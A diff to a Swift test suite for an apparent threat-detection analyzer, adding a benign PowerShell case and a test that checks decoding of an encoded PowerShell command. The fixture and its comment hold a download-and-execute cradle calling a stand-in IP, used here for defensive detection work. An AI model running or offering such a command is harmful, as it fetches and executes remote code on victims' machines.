@@ -51,7 +51,7 @@ struct AnalysisTests {
             "powershell.exe -ExecutionPolicy RemoteSigned -File backup.ps1", "certutil -verify cert.cer",
             "schtasks /query", "net user",
             "vssadmin list shadows", "wevtutil qe System", "rundll32 shell32.dll,Control_RunDLL", "sc query",
-            "curl --version", "",
+            "curl --version", "powershell Get-Content a.txt -Encoding utf8", "",
         ])
     func ordinary(line: String) { #expect(RuleHuntAnalyst().findings(Self.processes([line])).isEmpty) }
 
@@ -59,6 +59,21 @@ struct AnalysisTests {
     func decoded() {
         let findings = RuleHuntAnalyst().findings(Self.processes(["powershell -enc SQBFAFgAIAAxAA=="]))
         #expect(findings.first?.description.hasSuffix("it decodes to: IEX 1") == true)
+    }
+
+    @Test("What is encoded shows its own signs and indicators")
+    func hidden() {
+        // IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')
+        let text =
+            "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Adw"
+            + "BuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADcALwBhACcAKQA="
+        let findings = RuleHuntAnalyst().findings(Self.processes(["notepad.exe", "powershell.exe -e \(text)"]))
+        #expect(findings.map(\.attack) == [["T1059.001", "T1105"], ["T1059.001", "T1027.010"]])
+        for finding in findings {
+            let found = finding.indicators.map { "\($0.kind.rawValue) \($0.value)" }
+            #expect(found.contains("url http://198.51.100.7/a") && found.contains("ipv4 198.51.100.7"), "\(found)")
+            #expect(finding.rows == [1])
+        }
     }
 
     @Test("Office that starts a shell; the same shell from elsewhere is nothing")
